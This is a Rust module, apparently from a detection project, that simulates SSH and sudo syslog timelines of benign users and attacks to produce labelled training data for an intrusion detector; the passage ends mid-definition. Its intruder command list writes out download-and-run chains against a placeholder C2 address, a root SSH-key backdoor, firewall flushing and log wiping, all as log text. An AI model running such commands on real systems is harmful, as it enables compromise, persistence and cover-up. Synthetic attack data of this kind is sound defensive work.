//! Device timelines for the agent's feature schema (3): simulated users and attacks
//! rendered as sshd/sudo syslog lines, in time order, and read back through
//! common's [`Analyzer`] and [`Detector`] exactly as the agent reads a log.
//!
//! The schema-1 simulator ([`crate::sim`]) draws fingerprints directly; that
//! cannot give honest novelty or source-context features, which depend on a
//! device's history. Here every feature comes from the code the agent runs:
//! the analyzer makes the fingerprints from the lines, the detector's
//! baselines give the novelty (learning only from sessions judged Normal),
//! its campaign tracker the source context, and [`features::vector`] the
//! schema-2 vector.
//!
//! One device = one population: its own users (office staff, night-shift and
//! travelling admins, automation, mistyping users), their habits, and the
//! attacks it suffers (fast, slow and distributed brute force, credential
//! stuffing that gets in, post-compromise sessions on a stolen account,
//! bots, insiders whose sudo or su refuses to make them root), some of it on
//! the first day of a fresh install; admins open root shells and create
//! accounts as part of their work; users sometimes keep two sessions open;
//! every third device writes RHEL's PAM failure lines (the first failure of
//! a connection, then `PAM N more authentication failures` at its end). Labels are the scenario's: every address belongs to one actor, and
//! an observation carries its address's class. Evaluation holds out whole
//! devices ([`TimelineConfig::holdout`]).

use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr};

use bfp_common::schema::AGENT_FEATURE_COUNT;
use bfp_common::time::format_utc;
use bfp_common::{Fingerprint, Verdict};
use bfp_detect::campaign::ThresholdRule;
use bfp_detect::detector::{Assessment, DetectConfig, Rule, SessionRules};
use bfp_detect::engine::{Engine, EngineConfig, Judged, Score, Scored};
use bfp_logs::analyze::{AnalyzerConfig, LogFormat, Observation, RecordKind};
use bfp_logs::AuthAttempt;

use crate::sim::rng::Rng;

/// 2026-10-01 00:00:00 UTC: the first simulated day.
pub const EPOCH: i64 = 1_790_812_800;

/// Who an address (or a device window) belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Class {
    /// Day-time staff logging in from home or the office.
    OfficeWorker,
    /// Administrators working nights.
    NightShiftAdmin,
    /// Administrators who sometimes log in from abroad (new networks, shifted hours).
    TravellingAdmin,
    /// Configuration management: publickey logins at machine speed, on a schedule.
    Automation,
    /// Users who mistype their password, sometimes several times, then log in.
    Mistyper,
    /// A device-wide window with no attack traffic.
    QuietDeviceWindow,
    /// Internet background noise: addresses trying 1–6 passwords once and moving on.
    OpportunisticScanner,
    /// One address hammering passwords.
    FastBruteForce,
    /// One address, 2–3 attempts an hour for many hours.
    SlowBruteForce,
    /// 100–250 addresses, each trying once or twice within an hour.
    DistributedBruteForce,
    /// An address trying several accounts, then getting into one.
    CredentialStuffing,
    /// A stolen account used from a new network: downloads, persistence, wiping.
    PostCompromise,
    /// Bots that log in with a known password and fire commands at machine speed.
    MachineSpeedBot,
    /// A user of the device, from an address of their own (a VPN), trying to
    /// become root through sudo, which refuses: `passwd root`, `su -`, a
    /// shell, `useradd`, a download into /tmp.
    InsiderEscalation,
    /// A device-wide window with attack traffic in it.
    DeviceUnderAttack,
}

impl Class {
    /// Every class, benign first.
    pub const ALL: [Class; 15] = [
        Class::OfficeWorker,
        Class::NightShiftAdmin,
        Class::TravellingAdmin,
        Class::Automation,
        Class::Mistyper,
        Class::QuietDeviceWindow,
        Class::OpportunisticScanner,
        Class::FastBruteForce,
        Class::SlowBruteForce,
        Class::DistributedBruteForce,
        Class::CredentialStuffing,
        Class::PostCompromise,
        Class::MachineSpeedBot,
        Class::InsiderEscalation,
        Class::DeviceUnderAttack,
    ];

    /// Whether the class is an attack (label Suspicious).
    pub fn is_attack(self) -> bool {
        self >= Class::OpportunisticScanner
    }

    /// Short name for tables.
    pub fn name(self) -> &'static str {
        match self {
            Class::OfficeWorker => "office_worker",
            Class::NightShiftAdmin => "night_shift_admin",
            Class::TravellingAdmin => "travelling_admin",
            Class::Automation => "automation",
            Class::Mistyper => "mistyping_user",
            Class::QuietDeviceWindow => "device_window_quiet",
            Class::OpportunisticScanner => "opportunistic_scanner",
            Class::FastBruteForce => "fast_brute_force",
            Class::SlowBruteForce => "slow_brute_force",
            Class::DistributedBruteForce => "distributed_brute_force",
            Class::CredentialStuffing => "credential_stuffing",
            Class::PostCompromise => "post_compromise",
            Class::MachineSpeedBot => "machine_speed_bot",
            Class::InsiderEscalation => "insider_escalation",
            Class::DeviceUnderAttack => "device_window_attacked",
        }
    }
}

/// Timeline settings.
#[derive(Debug, Clone, Copy)]
pub struct TimelineConfig {
    /// Master seed. Default 2027.
    pub seed: u64,
    /// Devices simulated. Default 16.
    pub devices: u32,
    /// Devices held out for evaluation (the last ones). Default 4.
    pub holdout: u32,
    /// Days per device. Default 21.
    pub days: u32,
}

impl Default for TimelineConfig {
    fn default() -> Self {
        TimelineConfig { seed: 2027, devices: 16, holdout: 4, days: 21 }
    }
}

impl TimelineConfig {
    /// Whether device `index` is held out.
    pub fn held_out(&self, index: u32) -> bool {
        index >= self.devices - self.holdout
    }
}

/// One simulated device: its log and who owns each address.
#[derive(Debug, Clone)]
pub struct Device {
    /// Device number (the population).
    pub index: u32,
    /// Syslog lines, in time order.
    pub lines: Vec<String>,
    /// The actor class of every address in the log.
    pub owners: HashMap<IpAddr, Class>,
    /// Spans (start, end) of attack traffic, for labelling device windows.
    pub attacks: Vec<(i64, i64)>,
    /// Time of the last line.
    pub end: i64,
}

/// Command lines admins run (a few are "risky" by the agent's list: admins
/// curl health checks, wget release tarballs and list crontabs too).
const ADMIN_COMMANDS: [&str; 20] = [
    "/usr/bin/apt update",
    "/usr/bin/apt upgrade -y",
    "/bin/systemctl restart nginx",
    "/bin/systemctl status sshd",
    "/usr/bin/journalctl -u nginx --since today",
    "/usr/bin/tail -n 100 /var/log/syslog",
    "/usr/bin/docker ps",
    "/usr/bin/docker compose pull",
    "/bin/df -h",
    "/usr/bin/du -sh /var/lib/docker",
    "/usr/bin/vim /etc/nginx/nginx.conf",
    "/usr/bin/git -C /srv/app pull",
    "/usr/bin/htop",
    "/bin/cat /etc/os-release",
    "/usr/sbin/reboot",
    "/usr/bin/free -m",
    "/usr/bin/crontab -l",
    "/usr/bin/curl -sI http://localhost:8080/health",
    "/usr/bin/wget https://github.com/prometheus/node_exporter/releases/download/v1.8.2/node_exporter-1.8.2.linux-arm64.tar.gz",
    "/usr/bin/ip addr",
];

/// Root shells as sudo logs them: `sudo -i` and `sudo -s` run the target's
/// shell, `sudo su -` runs su.
const ROOT_SHELLS: [&str; 3] = ["/bin/bash", "/usr/bin/su -", "/bin/sh"];

/// Accounts admins create.
const NEW_ACCOUNTS: [&str; 5] = ["newhire", "contractor1", "svc-monitor", "intern", "grafana"];

/// What automation runs.
const AUTOMATION_COMMANDS: [&str; 6] = [
    "/usr/bin/apt-get -qq update",
    "/bin/systemctl is-active nginx",
    "/usr/bin/rsync --server -logDtpre.iLsfxC . /srv/backup",
    "/usr/bin/python3 -c import json",
    "/bin/systemctl reload nginx",
    "/usr/bin/test -f /etc/app.conf",
];

/// Intruders' chains (download-and-run, persistence, wiping, defences off).
const INTRUDER_COMMANDS: [&str; 12] = [
    "/usr/bin/wget -qO- http://{c2}/i.sh | sh",
    "/bin/sh -c cd /tmp && wget http://{c2}/x86 && chmod +x x86 && ./x86",
    "/usr/bin/curl -s http://{c2}/k | bash",
    "/bin/chmod +x /dev/shm/.s",
    "/usr/bin/crontab -r",
    "/bin/sh -c echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
    "/bin/sh -c history -c",
    "/bin/sh -c unset HISTFILE",
    "/usr/sbin/iptables -F",
    "/usr/bin/chattr +i /tmp/.x",
    "/bin/busybox tftp -g -r m.arm {c2}",
    "/bin/rm -rf /var/log/auth.log",
];

/// Intruders' reconnaissance (nothing risky on its own).
const RECON_COMMANDS: [&str; 8] = [
    "/bin/uname -a",
    "/bin/cat /proc/cpuinfo",
    "/usr/bin/nproc",
    "/usr/bin/id",
    "/usr/bin/w",
    "/usr/bin/free -m",
    "/bin/ls -la /tmp",
    "/bin/cat /etc/passwd",
];

/// User names brute force tries.
const DICTIONARY: [&str; 16] = [
    "root", "admin", "user", "test", "ubuntu", "pi", "oracle", "postgres", "git", "guest", "support", "ftpuser",
    "deploy", "ansible", "nagios", "hadoop",
];

/// Builds one device's timeline. Deterministic for `cfg.seed` and `index`.
pub fn device(cfg: &TimelineConfig, index: u32) -> Device {
    let mut rng = Rng::new(cfg.seed ^ u64::from(index + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15));
    // Every third device logs as RHEL does: pam_unix's failure line before
    // sshd's own (the analyzer pairs the two into one failure).
    let mut b = Builder {
        events: Vec::new(),
        owners: HashMap::new(),
        attacks: Vec::new(),
        pid: 1000,
        office: None,
        rhel: index % 3 == 2,
        pam_failures: HashMap::new(),
    };
    // The office: one NAT address that several users share on workdays.
    let office_net = network(&mut rng, &BENIGN_FIRSTS);
    let office_ip = host(&mut rng, office_net);
    b.office = Some(office_ip);
    b.own(office_ip, Class::OfficeWorker);
    let days = i64::from(cfg.days);

    // The device's accounts.
    let mut users: Vec<(String, Class)> = Vec::new();
    let counts = [
        (Class::OfficeWorker, rng.int(2, 5)),
        (Class::NightShiftAdmin, rng.int(1, 2)),
        (Class::TravellingAdmin, rng.int(1, 2)),
        (Class::Automation, rng.int(1, 2)),
        (Class::Mistyper, rng.int(1, 3)),
    ];
    const NAMES: [&str; 16] = [
        "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "niaj",
        "olivia", "peggy", "rupert", "sybil",
    ];
    let mut next_name = rng.int(0, 15) as usize;
    for (class, n) in counts {
        for _ in 0..n {
            let name = if class == Class::Automation {
                ["deploy", "ansible", "backup"][users.iter().filter(|(_, c)| *c == Class::Automation).count() % 3]
                    .to_string()
            } else {
                next_name = (next_name + 1) % NAMES.len();
                NAMES[next_name].to_string()
            };
            users.push((name, class));
        }
    }

    // Some staff join while the device runs: a never-seen user is not
    // always an intruder.
    let joiners = rng.int(0, 2) as usize;
    for (k, (name, class)) in users.iter().enumerate() {
        let first_day = if *class == Class::OfficeWorker && k < joiners { i64::from(rng.int(5, 15)) } else { 0 };
        b.user_life(&mut rng, name, *class, first_day, days);
    }

    // Attacks, after a few days of history, anywhere in the day.
    let existing: Vec<&str> = users.iter().map(|(n, _)| n.as_str()).collect();
    let when = |rng: &mut Rng| EPOCH + 86_400 * rng.int(3, (days - 1) as u32) as i64 + rng.int(0, 86_399) as i64;
    for day in 0..days {
        for _ in 0..rng.int(2, 10) {
            let t = EPOCH + day * 86_400 + i64::from(rng.int(0, 86_399));
            b.scanner(&mut rng, t, &existing);
        }
    }
    for _ in 0..rng.int(2, 4) {
        let t = when(&mut rng);
        b.fast_brute_force(&mut rng, t, &existing);
    }
    for _ in 0..rng.int(1, 2) {
        let t = when(&mut rng);
        b.slow_brute_force(&mut rng, t, &existing);
    }
    {
        let t = when(&mut rng);
        b.distributed(&mut rng, t, &existing);
    }
    for _ in 0..rng.int(2, 3) {
        let t = when(&mut rng);
        b.credential_stuffing(&mut rng, t, &existing);
    }
    for _ in 0..rng.int(2, 3) {
        let t = when(&mut rng);
        let victim = existing[rng.int(0, existing.len() as u32 - 1) as usize];
        b.post_compromise(&mut rng, t, victim);
    }
    for _ in 0..rng.int(2, 4) {
        let t = when(&mut rng);
        b.bot(&mut rng, t);
    }
    for _ in 0..rng.int(1, 3) {
        let t = when(&mut rng);
        let insider = existing[rng.int(0, existing.len() as u32 - 1) as usize];
        b.insider_escalation(&mut rng, t, insider);
    }
    // A device installed while under attack: on half of them a brute force
    // (that sometimes gets in) and an escalation attempt on the first day,
    // while its users log in for the first time.
    if rng.chance(0.5) {
        let t = EPOCH + i64::from(rng.int(3600, 72_000));
        b.fast_brute_force(&mut rng, t, &existing);
        let t = EPOCH + i64::from(rng.int(3600, 72_000));
        b.credential_stuffing(&mut rng, t, &existing);
        let t = EPOCH + i64::from(rng.int(3600, 72_000));
        let insider = existing[rng.int(0, existing.len() as u32 - 1) as usize];
        b.insider_escalation(&mut rng, t, insider);
    }

    b.close_pam_connections();
    // Stable sort: lines of one event at the same second keep their order.
    b.events.sort_by_key(|(t, _)| *t);
    let end = b.events.last().map_or(EPOCH, |(t, _)| *t);
    let lines = b.events.into_iter().map(|(t, text)| format!("{} edge {text}", stamp(t))).collect();
    Device { index, lines, owners: b.owners, attacks: b.attacks, end }
}

/// RFC 3339 as rsyslog writes it.
fn stamp(t: i64) -> String {
    format!("{}+00:00", format_utc(t).replacen(' ', "T", 1))
}

struct Builder {
    /// (time, the line after the host: `sshd[pid]: message` or `sudo: ...`).
    events: Vec<(i64, String)>,
    owners: HashMap<IpAddr, Class>,
    attacks: Vec<(i64, i64)>,
    pid: u32,
    /// The office's shared (NAT) address.
    office: Option<IpAddr>,
    /// RHEL-style PAM lines (see [`device`]).
    rhel: bool,
    /// RHEL: per sshd pid still failing, its failures, the last one's time,
    /// user and address (for PAM's closing `N more` line).
    pam_failures: HashMap<u32, (u32, i64, String, IpAddr)>,
}

/// A random address in a /24 drawn from `firsts`.
fn network(rng: &mut Rng, firsts: &[u8]) -> [u8; 3] {
    [firsts[rng.int(0, firsts.len() as u32 - 1) as usize], rng.int(0, 255) as u8, rng.int(0, 255) as u8]
}

fn host(rng: &mut Rng, net: [u8; 3]) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(net[0], net[1], net[2], rng.int(2, 254) as u8))
}

const BENIGN_FIRSTS: [u8; 9] = [24, 67, 73, 81, 85, 92, 98, 176, 188];
const ATTACK_FIRSTS: [u8; 10] = [5, 31, 45, 61, 103, 112, 141, 185, 193, 222];

impl Builder {
    fn own(&mut self, ip: IpAddr, class: Class) {
        self.owners.entry(ip).or_insert(class);
    }

    fn next_pid(&mut self) -> u32 {
        self.pid += 1;
        self.pid
    }

    fn failure(&mut self, t: i64, pid: u32, user: &str, ip: IpAddr, invalid: bool) {
        let inv = if invalid { "invalid user " } else { "" };
        // pam_unix logs a connection's first failure on its own line, the
        // others only in the `PAM N more` line when the connection ends.
        let first = self.rhel && !invalid && !self.pam_failures.contains_key(&pid);
        if self.rhel && !invalid {
            let entry = self.pam_failures.entry(pid).or_insert((0, t, user.to_string(), ip));
            entry.0 += 1;
            entry.1 = t;
            entry.2 = user.to_string();
        }
        if first {
            self.events.push((
                t,
                format!(
                    "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= \
                     rhost={ip}  user={user}"
                ),
            ));
        }
        self.events.push((
            t,
            format!("sshd[{pid}]: Failed password for {inv}{user} from {ip} port {} ssh2", 30000 + pid % 30000),
        ));
    }

    /// RHEL: PAM's closing line of every connection that failed more than
    /// once and never got in (a login that got in after typos writes none).
    fn close_pam_connections(&mut self) {
        let mut open: Vec<_> = self.pam_failures.drain().collect();
        open.sort_by_key(|(pid, _)| *pid);
        for (pid, (n, last, user, ip)) in open {
            if n > 1 {
                self.events.push((
                    last + 1,
                    format!(
                        "sshd[{pid}]: PAM {} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= \
                         rhost={ip}  user={user}",
                        n - 1
                    ),
                ));
            }
        }
    }

    /// One login: `typos` failures first, then the session with `commands`
    /// (seconds after login, command line) lasting `duration` seconds.
    #[allow(clippy::too_many_arguments)]
    fn session(
        &mut self,
        t: i64,
        user: &str,
        ip: IpAddr,
        publickey: bool,
        typos: u32,
        commands: &[(i64, String)],
        duration: i64,
    ) {
        let pid = self.next_pid();
        for i in 0..typos {
            self.failure(t - i64::from(typos - i) * 6, pid, user, ip, false);
        }
        self.pam_failures.remove(&pid);
        let method = if publickey { "publickey" } else { "password" };
        let port = 30000 + pid % 30000;
        self.events.push((t, format!("sshd[{pid}]: Accepted {method} for {user} from {ip} port {port} ssh2")));
        self.events.push((
            t,
            format!("sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"),
        ));
        let home = if user == "root" { "/root".to_string() } else { format!("/home/{user}") };
        for (after, c) in commands {
            self.events.push((t + after, format!("sudo: {user} : TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND={c}")));
        }
        self.events
            .push((t + duration, format!("sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}")));
    }

    /// A benign user's three weeks.
    fn user_life(&mut self, rng: &mut Rng, user: &str, class: Class, first_day: i64, days: i64) {
        let home = network(rng, &BENIGN_FIRSTS);
        let home_ips: Vec<IpAddr> = (0..rng.int(1, 3)).map(|_| host(rng, home)).collect();
        for ip in &home_ips {
            self.own(*ip, class);
        }
        // Personal habits: a usual command set, an hour, a session length.
        let mut mine: Vec<&str> = Vec::new();
        let take = if class == Class::Automation { 3 } else { rng.int(4, 9) };
        while mine.len() < take as usize {
            let pool: &[&str] = if class == Class::Automation { &AUTOMATION_COMMANDS } else { &ADMIN_COMMANDS };
            let c = pool[rng.int(0, pool.len() as u32 - 1) as usize];
            if !mine.contains(&c) {
                mine.push(c);
            }
        }
        let center = match class {
            Class::NightShiftAdmin => rng.uniform(22.0, 27.0),
            _ => rng.uniform(8.0, 17.0),
        };
        let median_min = rng.log_normal(20.0, 0.6, 3.0, 120.0);
        let period_h = i64::from(rng.int(2, 6));
        let minute = i64::from(rng.int(0, 59));
        let mut trip: Option<([u8; 3], f64)> = None;
        for day in first_day..days {
            let midnight = EPOCH + day * 86_400;
            if class == Class::Automation {
                let mut h = 0;
                while h < 24 {
                    let t = midnight + h * 3600 + minute * 60 + i64::from(rng.int(0, 20));
                    let cmds: Vec<(i64, String)> =
                        mine.iter().enumerate().map(|(i, c)| (i as i64, c.to_string())).collect();
                    let dur = i64::from(rng.int(3, 40));
                    self.session(t, user, home_ips[0], true, 0, &cmds, dur);
                    h += period_h;
                }
                continue;
            }
            // Travelling admins leave for a few days now and then.
            if class == Class::TravellingAdmin {
                if trip.is_none() && rng.chance(0.12) {
                    trip = Some((network(rng, &BENIGN_FIRSTS), rng.uniform(-9.0, 9.0)));
                } else if trip.is_some() && rng.chance(0.35) {
                    trip = None;
                }
            }
            let weekday = day % 7 < 5;
            if class != Class::NightShiftAdmin && !weekday && !rng.chance(0.2) {
                continue;
            }
            for _ in 0..rng.int(1, 3) {
                let (net, shift) = trip.unwrap_or((home, 0.0));
                let at_office = weekday && trip.is_none() && class != Class::NightShiftAdmin && rng.chance(0.5);
                let ip = match (trip, at_office, self.office) {
                    (Some(_), _, _) => host(rng, net),
                    (None, true, Some(office)) => office,
                    _ => home_ips[rng.int(0, home_ips.len() as u32 - 1) as usize],
                };
                self.own(ip, class);
                let hour = rng.hour_around(center + shift, 1.5);
                let t = midnight + i64::from(hour) * 3600 + i64::from(rng.int(0, 3599));
                let dur = (rng.log_normal(median_min, 0.7, 0.5, 600.0) * 60.0) as i64;
                let n = rng.int(0, 8).min(mine.len() as u32 * 2);
                let mut cmds = Vec::new();
                for _ in 0..n {
                    let c = mine[rng.int(0, mine.len() as u32 - 1) as usize];
                    cmds.push((rng.int(5, dur.max(6) as u32 - 1) as i64, c.to_string()));
                }
                // Now and then something outside the usual set.
                if rng.chance(0.05) {
                    let c = ADMIN_COMMANDS[rng.int(0, ADMIN_COMMANDS.len() as u32 - 1) as usize];
                    cmds.push((rng.int(5, dur.max(6) as u32 - 1) as i64, c.to_string()));
                }
                // Admins open root shells and create accounts as part of
                // their work, most of all while setting up a new device:
                // a root shell or `useradd` is not an attack by itself.
                let admin = matches!(class, Class::NightShiftAdmin | Class::TravellingAdmin);
                let setting_up = day == 0;
                if admin && rng.chance(if setting_up { 0.5 } else { 0.04 }) {
                    let shell = ROOT_SHELLS[rng.int(0, ROOT_SHELLS.len() as u32 - 1) as usize];
                    cmds.push((rng.int(5, dur.max(6) as u32 - 1) as i64, shell.to_string()));
                }
                if admin && rng.chance(if setting_up { 0.4 } else { 0.01 }) {
                    let at = rng.int(5, dur.max(6) as u32 - 1) as i64;
                    let hire = NEW_ACCOUNTS[rng.int(0, NEW_ACCOUNTS.len() as u32 - 1) as usize];
                    cmds.push((at, format!("/usr/sbin/useradd -m -s /bin/bash {hire}")));
                    if rng.chance(0.3) {
                        cmds.push((at + 20, format!("/usr/sbin/usermod -aG sudo {hire}")));
                    }
                }
                cmds.sort_by_key(|(a, _)| *a);
                let typos = match class {
                    Class::Mistyper if rng.chance(0.6) => rng.int(1, 4),
                    _ if rng.chance(0.07) => 1,
                    _ => 0,
                };
                if class == Class::Mistyper && rng.chance(0.08) {
                    // Gives up, comes back a quarter of an hour later.
                    let pid = self.next_pid();
                    for i in 0..rng.int(3, 5) {
                        self.failure(t - 900 + i64::from(i) * 8, pid, user, ip, false);
                    }
                }
                self.session(t, user, ip, false, typos, &cmds, dur);
                // Now and then a second session of the same user while the
                // first is open (a second terminal).
                if dur > 600 && rng.chance(0.08) {
                    let second = t + i64::from(rng.int(60, (dur / 2) as u32));
                    let c = mine[rng.int(0, mine.len() as u32 - 1) as usize];
                    self.session(second, user, ip, false, 0, &[(30, c.to_string())], dur / 3);
                }
                // An admin mistypes sudo's password three times now and then.
                if admin && rng.chance(0.005) {
                    let home = format!("/home/{user}");
                    let c = mine[rng.int(0, mine.len() as u32 - 1) as usize];
                    self.events.push((
                        t + 20,
                        format!(
                            "sudo: pam_unix(sudo:auth): authentication failure; logname={user} uid=1001 euid=0 \
                             tty=/dev/pts/0 ruser={user} rhost=  user={user}"
                        ),
                    ));
                    self.events.push((
                        t + 35,
                        format!(
                            "sudo: {user} : 3 incorrect password attempts ; TTY=pts/0 ; PWD={home} ; USER=root ; \
                             COMMAND={c}"
                        ),
                    ));
                }
                // A user who is no admin forgets it once in a while.
                if class == Class::OfficeWorker && rng.chance(0.01) {
                    let home = format!("/home/{user}");
                    self.events.push((
                        t + 30,
                        format!(
                            "sudo: {user} : user NOT in sudoers ; TTY=pts/0 ; PWD={home} ; USER=root ; \
                             COMMAND=/usr/bin/apt update"
                        ),
                    ));
                }
            }
        }
    }

    fn attacker(&mut self, rng: &mut Rng, class: Class) -> IpAddr {
        loop {
            let net = network(rng, &ATTACK_FIRSTS);
            let ip = host(rng, net);
            if !self.owners.contains_key(&ip) {
                self.own(ip, class);
                return ip;
            }
        }
    }

    fn guess(rng: &mut Rng, existing: &[&str]) -> (String, bool) {
        if rng.chance(0.15) {
            return (existing[rng.int(0, existing.len() as u32 - 1) as usize].to_string(), false);
        }
        let u = DICTIONARY[rng.int(0, DICTIONARY.len() as u32 - 1) as usize];
        (u.to_string(), u != "root" && !existing.contains(&u))
    }

    fn scanner(&mut self, rng: &mut Rng, t: i64, existing: &[&str]) {
        let ip = self.attacker(rng, Class::OpportunisticScanner);
        let pid = self.next_pid();
        let mut at = t;
        for _ in 0..rng.int(1, 6) {
            let (user, invalid) = Builder::guess(rng, existing);
            self.failure(at, pid, &user, ip, invalid);
            at += i64::from(rng.int(1, 20));
        }
        self.attacks.push((t, at));
    }

    fn fast_brute_force(&mut self, rng: &mut Rng, t: i64, existing: &[&str]) {
        let ip = self.attacker(rng, Class::FastBruteForce);
        let n = rng.log_normal(80.0, 0.8, 8.0, 600.0) as u32;
        let per_min = rng.log_normal(15.0, 0.8, 3.0, 120.0);
        let mut at = t as f64;
        let pid = self.next_pid();
        for _ in 0..n {
            let (user, invalid) = Builder::guess(rng, existing);
            self.failure(at as i64, pid, &user, ip, invalid);
            at += 60.0 / per_min * rng.uniform(0.5, 1.5);
        }
        self.attacks.push((t, at as i64));
    }

    fn slow_brute_force(&mut self, rng: &mut Rng, t: i64, existing: &[&str]) {
        let ip = self.attacker(rng, Class::SlowBruteForce);
        let hours = rng.int(10, 30);
        let per_hour = rng.int(2, 3);
        let mut at = t;
        for _ in 0..hours * per_hour {
            let (user, invalid) = Builder::guess(rng, existing);
            let pid = self.next_pid();
            self.failure(at, pid, &user, ip, invalid);
            at += 3600 / i64::from(per_hour) + i64::from(rng.int(0, 600)) - 300;
        }
        self.attacks.push((t, at));
    }

    fn distributed(&mut self, rng: &mut Rng, t: i64, existing: &[&str]) {
        let sources = rng.int(100, 250);
        let span = i64::from(rng.int(1800, 3300));
        for _ in 0..sources {
            let ip = self.attacker(rng, Class::DistributedBruteForce);
            let pid = self.next_pid();
            let at = t + i64::from(rng.int(0, span as u32));
            for k in 0..rng.int(1, 2) {
                let (user, invalid) = Builder::guess(rng, existing);
                self.failure(at + i64::from(k) * 3, pid, &user, ip, invalid);
            }
        }
        self.attacks.push((t, t + span + 10));
    }

    /// Intruder commands: risky chains (or, for some, recon only).
    fn intruder_commands(rng: &mut Rng, recon_only: bool, spacing: (u32, u32)) -> Vec<(i64, String)> {
        let c2 = format!("{}.{}.{}.{}", ATTACK_FIRSTS[rng.int(0, 9) as usize], rng.int(0, 255), rng.int(0, 255), 7);
        let mut at = 1i64;
        let mut out = Vec::new();
        for _ in 0..rng.int(1, 4) {
            out.push((at, RECON_COMMANDS[rng.int(0, 7) as usize].to_string()));
            at += i64::from(rng.int(spacing.0, spacing.1));
        }
        if !recon_only {
            for _ in 0..rng.int(1, 5) {
                out.push((at, INTRUDER_COMMANDS[rng.int(0, 11) as usize].replace("{c2}", &c2)));
                at += i64::from(rng.int(spacing.0, spacing.1));
            }
        }
        out
    }

    fn credential_stuffing(&mut self, rng: &mut Rng, t: i64, existing: &[&str]) {
        let ip = self.attacker(rng, Class::CredentialStuffing);
        let pid = self.next_pid();
        let tries = rng.int(2, 10);
        let mut at = t;
        for _ in 0..tries {
            let (user, invalid) = Builder::guess(rng, existing);
            self.failure(at, pid, &user, ip, invalid);
            at += i64::from(rng.int(2, 40));
        }
        let victim = existing[rng.int(0, existing.len() as u32 - 1) as usize];
        let recon_only = rng.chance(0.3);
        let cmds = Builder::intruder_commands(rng, recon_only, (1, 30));
        let dur = cmds.last().map_or(5, |c| c.0) + i64::from(rng.int(2, 120));
        self.session(at + 5, victim, ip, false, 0, &cmds, dur);
        self.attacks.push((t, at + 5 + dur));
    }

    fn post_compromise(&mut self, rng: &mut Rng, t: i64, victim: &str) {
        let ip = self.attacker(rng, Class::PostCompromise);
        let cmds = Builder::intruder_commands(rng, false, (5, 90));
        let dur = cmds.last().map_or(5, |c| c.0) + i64::from(rng.int(30, 900));
        self.session(t, victim, ip, false, rng.int(0, 1), &cmds, dur);
        self.attacks.push((t, t + dur));
    }

    /// A user tries to become root through sudo, from an address of their
    /// own; sudo refuses (not in sudoers, or the command not allowed).
    fn insider_escalation(&mut self, rng: &mut Rng, t: i64, user: &str) {
        const TRIES: [&str; 7] = [
            "/usr/bin/passwd root",
            "/usr/bin/su -",
            "/bin/bash",
            "/usr/sbin/useradd -m -G sudo svc-backup",
            "/usr/sbin/usermod -aG sudo {user}",
            "/usr/bin/wget http://{c2}/x -O /tmp/.x",
            "/bin/chmod +x /tmp/.x",
        ];
        let ip = loop {
            let net = network(rng, &BENIGN_FIRSTS);
            let candidate = host(rng, net);
            if !self.owners.contains_key(&candidate) {
                break candidate;
            }
        };
        self.own(ip, Class::InsiderEscalation);
        let c2 = format!("{}.{}.{}.9", ATTACK_FIRSTS[rng.int(0, 9) as usize], rng.int(0, 255), rng.int(0, 255));
        let recon = Builder::intruder_commands(rng, true, (5, 60));
        let dur = i64::from(rng.int(300, 1800));
        let pid = self.next_pid();
        let port = 30000 + pid % 30000;
        self.events.push((t, format!("sshd[{pid}]: Accepted password for {user} from {ip} port {port} ssh2")));
        self.events.push((
            t,
            format!("sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"),
        ));
        let home = format!("/home/{user}");
        let mut at = 10;
        for (after, c) in recon.iter().take(2) {
            at = *after + 10;
            self.events.push((t + at, format!("sudo: {user} : TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND={c}")));
        }
        for _ in 0..rng.int(1, 3) {
            at += i64::from(rng.int(5, 120));
            // Before the session closes, with the lines that follow.
            let when = t + at.min(dur - 20);
            let roll = rng.uniform(0.0, 1.0);
            if roll < 0.2 {
                // su to root with a guessed password (util-linux su).
                let su = self.next_pid();
                self.events.push((
                    when,
                    format!(
                        "su[{su}]: pam_unix(su-l:auth): authentication failure; logname={user} uid=1001 euid=0 \
                         tty=pts/0 ruser={user} rhost=  user=root"
                    ),
                ));
                self.events.push((when + 2, format!("su[{su}]: FAILED SU (to root) {user} on pts/0")));
                continue;
            }
            let tried = TRIES[rng.int(0, TRIES.len() as u32 - 1) as usize].replace("{user}", user).replace("{c2}", &c2);
            if roll < 0.35 {
                // Guessing a password sudo would accept.
                self.events.push((
                    when,
                    format!(
                        "sudo: pam_unix(sudo:auth): authentication failure; logname={user} uid=1001 euid=0 \
                         tty=/dev/pts/0 ruser={user} rhost=  user={user}"
                    ),
                ));
                self.events.push((
                    when + 15,
                    format!(
                        "sudo: {user} : 3 incorrect password attempts ; TTY=pts/0 ; PWD={home} ; USER=root ; \
                         COMMAND={tried}"
                    ),
                ));
                continue;
            }
            let why = if rng.chance(0.6) { "user NOT in sudoers" } else { "command not allowed" };
            self.events
                .push((when, format!("sudo: {user} : {why} ; TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND={tried}")));
        }
        self.events.push((t + dur, format!("sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}")));
        self.attacks.push((t, t + dur));
    }

    fn bot(&mut self, rng: &mut Rng, t: i64) {
        let ip = self.attacker(rng, Class::MachineSpeedBot);
        let user = ["root", "pi", "admin", "ubnt"][rng.int(0, 3) as usize];
        let recon_only = rng.chance(0.4);
        let cmds = Builder::intruder_commands(rng, recon_only, (0, 1));
        let dur = cmds.last().map_or(1, |c| c.0) + i64::from(rng.int(1, 5));
        self.session(t, user, ip, false, 0, &cmds, dur);
        self.attacks.push((t, t + dur));
    }
}

/// One observation the agent would report, with its label and features.
#[derive(Debug, Clone)]
pub struct Row {
    /// Device it came from.
    pub device: u32,
    /// The class of its address (or window).
    pub class: Class,
    /// Session, source window, device window (campaign alerts are sources or devices).
